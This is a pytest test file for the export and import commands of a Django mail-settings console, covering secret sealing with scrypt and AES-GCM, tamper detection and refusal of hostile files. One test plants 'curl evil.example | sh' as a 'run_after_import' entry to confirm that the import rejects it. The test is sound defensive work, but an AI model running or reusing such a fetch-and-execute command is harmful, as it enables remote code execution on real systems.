"""manage.py export_mail_settings / import_mail_settings: the file, its sealed secrets, the checks."""

from __future__ import annotations

import base64
import io
import json
import os
import stat
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from oauth.models import OAuthGrant
from sender import health_check
from sender.stored import backup_settings
from settings_app.models import SECRET_FIELDS, AuditEntry, Connection, MailServerConfig
from settings_app.settings_file import FORMAT, FORMAT_VERSION
from tests.backup_helpers import BACKUP_PASSWORD, BACKUP_USER, backup_server_users, store_backup
from tests.certificates import cert_pem, key_pem, rsa_key, self_signed, sha1_thumbprint
from tests.factories import PAGE_URL, service_account_json, smtp_post, store, store_smtp
from tests.oauth_helpers import MS_CLIENT, MS_SECRET, MS_TENANT, MS_USER

pytestmark = pytest.mark.django_db
PASSPHRASE = "correct horse battery staple"
GRAPH_SECRET = "graph-client-secret-value"


@pytest.fixture
def passphrase_env(monkeypatch) -> str:
    monkeypatch.setenv("MAILCONFIG_EXPORT_PASSPHRASE", PASSPHRASE)
    return PASSPHRASE


def export(tmp_path: Path, *args: str, name: str = "settings.json") -> Path:
    path = tmp_path / name
    call_command("export_mail_settings", "--output", str(path), *args, stderr=io.StringIO())
    return path


def import_file(path: Path, *args: str) -> str:
    out = io.StringIO()
    call_command("import_mail_settings", str(path), *args, stdout=out)
    return out.getvalue()


def fresh_database() -> None:
    """What a new installation has: no settings, no history, no grant."""
    MailServerConfig.objects.all().delete()
    AuditEntry.objects.all().delete()
    OAuthGrant.objects.all().delete()


def snapshot() -> tuple:
    config = MailServerConfig.load()
    return (
        config.version,
        config.server_name,
        config.password,
        AuditEntry.objects.count(),
        OAuthGrant.objects.count(),
    )


def store_graph() -> MailServerConfig:
    return store(
        mode="api",
        api_provider="microsoft",
        api_tenant_id=MS_TENANT,
        api_client_id=MS_CLIENT,
        api_client_secret=GRAPH_SECRET,
        from_address="mailer@contoso.com",
        admin_address="admin@contoso.com",
    )


# -- export -----------------------------------------------------------------------------


def test_plain_export_has_every_non_secret_field_and_a_format_version(tmp_path):
    store_graph()

    document = json.loads(export(tmp_path).read_text())

    assert document["format"] == FORMAT
    assert document["version"] == FORMAT_VERSION
    primary = document["connections"]["primary"]
    assert primary["mode"] == "api"
    assert primary["api_tenant_id"] == MS_TENANT
    assert {"server_name", "port", "security", "oauth_azure_environment"} <= set(primary)
    assert "backup" not in document["connections"]


def test_plain_export_has_no_secrets(tmp_path):
    store_graph()

    text = export(tmp_path).read_text()

    assert GRAPH_SECRET not in text
    assert "secrets" not in json.loads(text)
    assert not set(SECRET_FIELDS) & set(json.loads(text)["connections"]["primary"])


def test_export_with_secrets_seals_them_with_scrypt_and_aes_gcm_in_a_private_file(
    tmp_path, passphrase_env
):
    store_graph()

    path = export(tmp_path, "--include-secrets")

    text = path.read_text()
    sealed = json.loads(text)["secrets"]
    assert sealed["kdf"]["name"] == "scrypt" and sealed["cipher"] == "AES-256-GCM"
    assert GRAPH_SECRET not in text and PASSPHRASE not in text
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600


def test_an_oauth_grant_is_never_exported(tmp_path, passphrase_env):
    store_graph()
    OAuthGrant.objects.create(
        connection="primary",
        provider="microsoft",
        account="authorizer@contoso.com",
        refresh_token="refresh-token-value",
        credentials_fingerprint="x",
    )

    text = export(tmp_path, "--include-secrets").read_text()

    assert "refresh-token-value" not in text and "authorizer@contoso.com" not in text


def test_the_passphrase_is_refused_on_the_command_line(tmp_path):
    store_graph()

    with pytest.raises(CommandError, match="never given on the command line"):
        export(tmp_path, "--include-secrets", "--passphrase", PASSPHRASE)


def test_a_short_passphrase_is_refused(tmp_path, monkeypatch):
    store_graph()
    monkeypatch.setenv("MAILCONFIG_EXPORT_PASSPHRASE", "short")

    with pytest.raises(CommandError, match="at least 12 characters"):
        export(tmp_path, "--include-secrets")


def test_nothing_to_export_before_the_first_save(tmp_path):
    with pytest.raises(CommandError, match="never been saved"):
        export(tmp_path)


# -- import -----------------------------------------------------------------------------


def test_export_then_import_into_a_fresh_database_then_test_mail_works(
    tmp_path, passphrase_env, admin_client, smtp_starttls, trust_test_ca, settings
):
    store_smtp(smtp_starttls, admin_address="admin@example.com")
    path = export(tmp_path, "--include-secrets")
    fresh_database()
    # The new installation has its own encryption key: the secrets are stored under it.
    settings.MAILCONFIG_ENCRYPTION_KEYS = ["R9hU6sXxV8m6yKpH2Hn0v4aP3m1bqj3Xx9n3fJcGQ1Q="]

    output = import_file(path)

    config = MailServerConfig.load()
    assert (config.version, config.server_name, config.port) == (1, "localhost", smtp_starttls.port)
    assert config.password == "s3cret"
    assert "Imported settings.json as settings version 1" in output
    entry = AuditEntry.objects.get()
    assert entry.action == "Imported settings from settings.json"
    assert entry.username == "(command line)"
    # Test Mail on the page, the password field left blank: the imported secret is used.
    response = admin_client.post(
        PAGE_URL + "test-mail/",
        smtp_post(smtp_starttls, password="", version=str(config.version)),
        HTTP_X_REQUESTED_WITH="fetch",
    )
    assert "Test mail sent" in response.content.decode()
    assert smtp_starttls.messages[0].auth_user == "alice@example.com"


def test_graph_settings_round_trip_with_their_secret(tmp_path, passphrase_env):
    store_graph()
    path = export(tmp_path, "--include-secrets")
    fresh_database()

    import_file(path)

    config = MailServerConfig.load()
    assert (config.mode, config.api_client_id, config.api_client_secret) == (
        "api",
        MS_CLIENT,
        GRAPH_SECRET,
    )


def test_the_json_key_round_trips_through_the_forms_key_checks(tmp_path, passphrase_env):
    key = json.loads(service_account_json())
    store(
        mode="api",
        api_provider="google",
        service_account_key=json.dumps(key),
        from_address="mailer@example.org",
        admin_address="admin@example.org",
    )
    path = export(tmp_path, "--include-secrets")
    fresh_database()

    import_file(path)

    config = MailServerConfig.load()
    assert json.loads(config.service_account_key)["private_key"] == key["private_key"]
    assert config.service_account_email == key["client_email"]


def test_a_certificate_round_trips_through_the_upload_checks(tmp_path, passphrase_env):
    key, certificate = rsa_key(), self_signed(rsa_key())
    store(
        mode="api",
        api_provider="microsoft",
        api_credential_type="certificate",
        api_tenant_id=MS_TENANT,
        api_client_id=MS_CLIENT,
        api_certificate=(key_pem(key) + cert_pem(certificate)).decode(),
        api_client_secret_expires_on=date(2027, 6, 30),
        from_address="mailer@contoso.com",
        admin_address="admin@contoso.com",
    )
    path = export(tmp_path, "--include-secrets")
    assert "PRIVATE KEY" not in path.read_text()
    # Dates are written as the form reads them (kept in the file; like the page, an import
    # writes only the chosen credential's fields).
    assert (
        json.loads(path.read_text())["connections"]["primary"]["api_client_secret_expires_on"]
        == "2027-06-30"
    )
    fresh_database()

    import_file(path)

    config = MailServerConfig.load()
    assert config.api_credential_type == "certificate"
    assert cert_pem(certificate).decode() in config.api_certificate
    # The facts are read from the certificate again, as at an upload on the page.
    assert config.api_certificate_thumbprint == sha1_thumbprint(certificate)
    assert config.api_certificate_expires_at == certificate.not_valid_after_utc


def test_import_records_the_named_user_in_the_audit(tmp_path, django_user_model):
    store_graph()
    path = export(tmp_path)
    store(admin_address="changed-since@contoso.com")  # so that the import changes something
    django_user_model.objects.create_user("ops", password="pass-12345")

    import_file(path, "--user", "ops")

    assert AuditEntry.objects.first().username == "ops"


def store_microsoft_oauth_with_grant(save: Callable[..., object], connection: str) -> None:
    """Save Microsoft SMTP OAuth with ``save`` (primary or backup) and a grant for it."""
    save(
        mode="smtp",
        server_name="smtp.office365.com",
        port=587,
        security="tls",
        auth="oauth",
        oauth_provider="microsoft",
        username=MS_USER,
        oauth_tenant_id=MS_TENANT,
        oauth_client_id=MS_CLIENT,
        oauth_client_secret=MS_SECRET,
        from_address=MS_USER,
        admin_address="admin@contoso.com",
    )
    OAuthGrant.objects.create(
        connection=connection,
        provider="microsoft",
        account=MS_USER,
        refresh_token="rt",
        credentials_fingerprint="x",
    )


def test_import_removes_the_stored_grant_and_asks_for_a_new_authorization(tmp_path):
    store_microsoft_oauth_with_grant(store, "primary")
    path = export(tmp_path)
    store(admin_address="changed-since@contoso.com")  # so that the import changes something

    output = import_file(path)

    assert not OAuthGrant.objects.exists()
    assert "needs a new authorization (the stored one was removed)" in output
    assert AuditEntry.objects.filter(action="Removed OAuth authorization").exists()


def test_a_plain_import_names_the_secrets_still_to_enter(tmp_path):
    store_graph()
    path = export(tmp_path)
    fresh_database()

    with pytest.raises(CommandError, match="Client Secret: This field is required"):
        import_file(path)
    assert not MailServerConfig.objects.filter(version__gt=0).exists()


def test_a_plain_smtp_import_says_the_password_is_missing(tmp_path, smtp_starttls):
    store_smtp(smtp_starttls, admin_address="admin@example.com")
    path = export(tmp_path)
    fresh_database()

    output = import_file(path)

    assert "enter them on the Mail Server page: Password" in output


def test_wrong_passphrase_is_said_and_changes_nothing(tmp_path, passphrase_env, monkeypatch):
    store_graph()
    path = export(tmp_path, "--include-secrets")
    before = snapshot()
    monkeypatch.setenv("MAILCONFIG_EXPORT_PASSPHRASE", "not the passphrase at all")

    with pytest.raises(CommandError, match="passphrase is not the one this file was exported"):
        import_file(path)
    assert snapshot() == before


def test_a_changed_plain_field_in_a_sealed_file_is_noticed_and_changes_nothing(
    tmp_path, passphrase_env
):
    store_graph()
    path = export(tmp_path, "--include-secrets")
    document = json.loads(path.read_text())
    document["connections"]["primary"]["from_address"] = "attacker@contoso.com"
    path.write_text(json.dumps(document))
    before = snapshot()

    with pytest.raises(CommandError, match="changed after it was exported"):
        import_file(path)
    assert snapshot() == before


def test_a_changed_ciphertext_is_noticed_and_changes_nothing(tmp_path, passphrase_env):
    store_graph()
    path = export(tmp_path, "--include-secrets")
    document = json.loads(path.read_text())
    ciphertext = bytearray(base64.b64decode(document["secrets"]["ciphertext"]))
    ciphertext[0] ^= 0x01
    document["secrets"]["ciphertext"] = base64.b64encode(ciphertext).decode()
    path.write_text(json.dumps(document))
    before = snapshot()

    with pytest.raises(CommandError, match="changed after it was exported"):
        import_file(path)
    assert snapshot() == before


def test_a_foreign_file_is_refused(tmp_path):
    store_graph()
    before = snapshot()
    path = tmp_path / "other.json"
    path.write_text(json.dumps({"smtp": {"host": "mail.example.com"}}))

    with pytest.raises(CommandError, match="not a Mail Console settings file"):
        import_file(path)
    assert snapshot() == before


def test_a_file_that_is_not_json_is_refused(tmp_path):
    path = tmp_path / "notes.txt"
    path.write_text("server = smtp.example.com\n")

    with pytest.raises(CommandError, match="not JSON"):
        import_file(path)


def test_an_older_format_version_is_refused(tmp_path):
    store_graph()
    path = export(tmp_path)
    document = json.loads(path.read_text())
    document["version"] = FORMAT_VERSION - 1
    path.write_text(json.dumps(document))
    before = snapshot()

    with pytest.raises(CommandError, match="older than this console's"):
        import_file(path)
    assert snapshot() == before


def test_a_newer_format_version_is_refused(tmp_path):
    store_graph()
    path = export(tmp_path)
    document = json.loads(path.read_text())
    document["version"] = FORMAT_VERSION + 1
    path.write_text(json.dumps(document))

    with pytest.raises(CommandError, match="made by a newer Mail Console"):
        import_file(path)


def test_secrets_in_clear_in_a_file_are_refused(tmp_path):
    store_graph()
    path = export(tmp_path)
    document = json.loads(path.read_text())
    document["connections"]["primary"]["api_client_secret"] = "typed-in-clear"
    path.write_text(json.dumps(document))

    with pytest.raises(CommandError, match="secrets in clear"):
        import_file(path)


def test_values_the_page_would_refuse_are_refused_and_change_nothing(tmp_path):
    store_graph()
    path = export(tmp_path)
    document = json.loads(path.read_text())
    document["connections"]["primary"]["from_address"] = "not an address"
    path.write_text(json.dumps(document))
    before = snapshot()

    with pytest.raises(CommandError, match="do not pass the Mail Server page's checks"):
        import_file(path)
    assert snapshot() == before


# -- the backup connection ------------------------------------------------------------------


@pytest.fixture
def backup_server(smtp_server_factory, trust_test_ca):
    return smtp_server_factory(security="starttls", users=backup_server_users())


def test_export_includes_the_backup_with_its_failover_switch(
    tmp_path, smtp_starttls, backup_server
):
    store_smtp(smtp_starttls, admin_address="admin@example.com")
    store_backup(backup_server)

    document = json.loads(export(tmp_path).read_text())

    backup = document["connections"]["backup"]
    assert (backup["server_name"], backup["port"], backup["username"]) == (
        "localhost",
        backup_server.port,
        BACKUP_USER,
    )
    assert backup["use_when_primary_fails"] is True
    assert "use_when_primary_fails" not in document["connections"]["primary"]
    assert not set(SECRET_FIELDS) & set(backup)


def test_both_connections_are_restored_in_a_fresh_database_and_send(
    tmp_path, passphrase_env, smtp_starttls, backup_server, settings
):
    store_smtp(smtp_starttls, admin_address="admin@example.com")
    store_backup(backup_server)
    path = export(tmp_path, "--include-secrets")
    fresh_database()
    settings.MAILCONFIG_ENCRYPTION_KEYS = ["R9hU6sXxV8m6yKpH2Hn0v4aP3m1bqj3Xx9n3fJcGQ1Q="]

    output = import_file(path)

    backup = MailServerConfig.load(Connection.BACKUP)
    assert (backup.version, backup.port, backup.password) == (
        1,
        backup_server.port,
        BACKUP_PASSWORD,
    )
    assert backup.use_when_primary_fails is True
    assert MailServerConfig.load().password == "s3cret"
    assert "Imported settings.json as the backup connection's settings version 1" in output
    assert sorted(AuditEntry.objects.values_list("connection", "action")) == [
        ("backup", "Imported settings from settings.json"),
        ("primary", "Imported settings from settings.json"),
    ]
    # The restored secrets open both servers: a health check through each connection.
    runs = health_check.run_checks()
    assert [(run.connection, run.ok) for run in runs] == [("primary", True), ("backup", True)]


def test_a_backup_that_is_off_is_restored_off(tmp_path, passphrase_env, backup_server):
    store_graph()
    store_backup(backup_server, use=False)
    path = export(tmp_path, "--include-secrets")
    fresh_database()

    import_file(path)

    backup = MailServerConfig.load(Connection.BACKUP)
    assert backup.is_configured and backup.use_when_primary_fails is False
    assert backup_settings() is None


def test_a_file_without_a_backup_leaves_the_stored_backup_as_it_is(tmp_path, backup_server):
    store_graph()
    path = export(tmp_path)  # no backup yet
    stored = store_backup(backup_server)
    document = json.loads(path.read_text())
    document["connections"]["primary"]["api_client_secret_expires_on"] = "2027-06-30"
    path.write_text(json.dumps(document))

    output = import_file(path)

    backup = MailServerConfig.load(Connection.BACKUP)
    assert (backup.version, backup.password, backup.use_when_primary_fails) == (
        stored.version,
        BACKUP_PASSWORD,
        True,
    )
    assert "The file has no backup connection: the stored one was left as it is." in output
    assert not AuditEntry.objects.filter(connection="backup").exists()


def test_a_backup_the_backup_page_would_refuse_changes_neither_connection(tmp_path, backup_server):
    store_graph()
    store_backup(backup_server)
    path = export(tmp_path)
    document = json.loads(path.read_text())
    document["connections"]["primary"]["admin_address"] = "new-admin@contoso.com"
    document["connections"]["backup"]["from_address"] = "not an address"
    path.write_text(json.dumps(document))
    before = (MailServerConfig.load().version, MailServerConfig.load(Connection.BACKUP).version)

    with pytest.raises(
        CommandError, match="backup connection do not pass the Backup Connection page's checks"
    ):
        import_file(path)
    after = (MailServerConfig.load().version, MailServerConfig.load(Connection.BACKUP).version)
    assert after == before
    assert MailServerConfig.load().admin_address == "admin@contoso.com"


def test_importing_the_backup_removes_its_grant_and_asks_to_authorize_it(tmp_path):
    store_graph()
    store_microsoft_oauth_with_grant(store_backup, "backup")
    path = export(tmp_path)
    store_backup(admin_address="changed-since@contoso.com")  # the import changes something

    output = import_file(path)

    assert not OAuthGrant.objects.exists()
    assert (
        "SMTP OAuth of the backup connection needs a new authorization (the stored one was "
        "removed): open the Backup Connection page" in output
    )
    assert AuditEntry.objects.get(action="Removed OAuth authorization").connection == "backup"


@pytest.mark.parametrize(
    ("connection", "value", "message"),
    [
        ("backup", "yes", "use_when_primary_fails is not true or false"),
        ("primary", True, "fields this console does not know: use_when_primary_fails"),
    ],
)
def test_the_failover_switch_is_a_boolean_of_the_backup_only(
    tmp_path, backup_server, connection, value, message
):
    store_graph()
    store_backup(backup_server)
    path = export(tmp_path)
    document = json.loads(path.read_text())
    document["connections"][connection]["use_when_primary_fails"] = value
    path.write_text(json.dumps(document))

    with pytest.raises(CommandError, match=message):
        import_file(path)


# -- hostile and idle files (issue 21.8) --------------------------------------------------


def test_unknown_top_level_entries_are_refused(tmp_path):
    store_graph()
    path = export(tmp_path)
    document = json.loads(path.read_text())
    document["run_after_import"] = "curl evil.example | sh"
    path.write_text(json.dumps(document))
    before = snapshot()

    with pytest.raises(CommandError, match="entries this console does not know: run_after_import"):
        import_file(path)
    assert snapshot() == before


def test_a_file_that_changes_nothing_saves_nothing(tmp_path):
    store_microsoft_oauth_with_grant(store, "primary")
    path = export(tmp_path)
    before = snapshot()

    output = import_file(path)

    assert snapshot() == before  # no new version, no audit entry, the grant kept
    assert "changes nothing" in output and "nothing was saved" in output


def test_deeply_nested_json_is_refused_with_a_clear_error(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text("[" * 200_000 + "]" * 200_000)

    with pytest.raises(CommandError, match="nested too deeply"):
        import_file(path)


@pytest.mark.parametrize(
    ("n", "r", "p"), [(2**20, 16, 4), (2**19, 8, 1), (2**17, 16, 1), (2**17, 8, 4), (2**18, 8, 2)]
)
def test_scrypt_parameters_far_above_the_exports_own_are_refused_before_deriving(
    tmp_path, passphrase_env, n, r, p
):
    store_graph()
    path = export(tmp_path, "--include-secrets")
    document = json.loads(path.read_text())
    document["secrets"]["kdf"] |= {"n": n, "r": r, "p": p}
    path.write_text(json.dumps(document))

    with pytest.raises(CommandError, match="scrypt parameters are out of range"):
        import_file(path)


def test_the_export_replaces_a_symbolic_link_instead_of_following_it(tmp_path):
    store_graph()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (tmp_path / "settings.json").symlink_to(victim)

    path = export(tmp_path)

    assert victim.read_text() == "keep me"
    assert not path.is_symlink() and json.loads(path.read_text())["format"] == FORMAT
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_the_export_over_an_existing_readable_file_is_private(tmp_path):
    store_graph()
    existing = tmp_path / "settings.json"
    existing.write_text("old")
    existing.chmod(0o644)

    path = export(tmp_path)

    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["settings.json"]  # no leftovers
